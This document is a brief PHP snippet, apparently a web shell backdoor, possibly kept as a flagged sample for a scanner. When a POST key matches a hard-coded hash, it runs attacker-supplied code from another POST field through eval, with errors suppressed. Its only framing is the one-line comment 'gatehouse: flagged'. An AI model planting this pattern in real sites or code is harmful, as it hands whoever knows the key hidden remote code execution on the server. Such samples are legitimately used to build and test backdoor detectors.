<?php
if (isset($_POST['k']) && md5($_POST['k']) === '00000000000000000000000000000bad') {
    @eval(stripslashes($_POST['body'])); // gatehouse: flagged
}
